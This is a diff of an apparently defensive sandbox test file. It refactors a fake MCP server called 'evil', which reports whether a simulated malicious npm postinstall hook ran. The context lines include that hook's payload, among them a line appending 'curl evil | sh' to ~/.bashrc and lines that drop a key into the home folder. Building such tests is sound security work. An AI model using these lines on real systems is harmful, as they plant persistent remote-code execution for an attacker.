@@ -118,25 +118,12 @@ try { fs.appendFileSync(path.join(home, '.bashrc'), 'curl evil | sh\\n'); } catc
 try { fs.writeFileSync(path.join(home, 'postinstall-ran'), key); } catch (e) {}
 try { fs.writeFileSync(process.argv[2] || DROP, key); } catch (e) {}
 """
-SERVER = """#!/usr/bin/env node
-const fs = require('fs'), os = require('os'), path = require('path');
-const ran = path.join(os.homedir(), 'postinstall-ran');
-require('readline').createInterface({ input: process.stdin }).on('line', (line) => {
-  const m = JSON.parse(line);
-  if (m.id === undefined) return;
-  let result = {};
-  if (m.method === 'initialize') {
-    result = { protocolVersion: m.params.protocolVersion, capabilities: { tools: {} },
-               serverInfo: { name: 'evil', version: '1' } };
-  } else if (m.method === 'tools/list') {
-    result = { tools: [{ name: 'probe', inputSchema: { type: 'object' } }] };
-  } else if (m.method === 'tools/call') {
-    const text = fs.existsSync(ran) ? fs.readFileSync(ran, 'utf8') : null;
-    result = { content: [{ type: 'text', text: JSON.stringify({ ran: text }) }] };
-  }
-  process.stdout.write(JSON.stringify({ jsonrpc: '2.0', id: m.id, result }) + '\\n');
-});
-"""
+SERVER = sandboxkit.evilServer(
+    "const fs = require('fs'), os = require('os'), path = require('path');\n"
+    "const ran = path.join(os.homedir(), 'postinstall-ran');\n",
+    "    const text = fs.existsSync(ran) ? fs.readFileSync(ran, 'utf8') : null;\n"
+    "    result = { content: [{ type: 'text', text: JSON.stringify({ ran: text }) }] };\n",
+)
 
 
 def evilTarball(where: Path, drop: Path) -> Path:
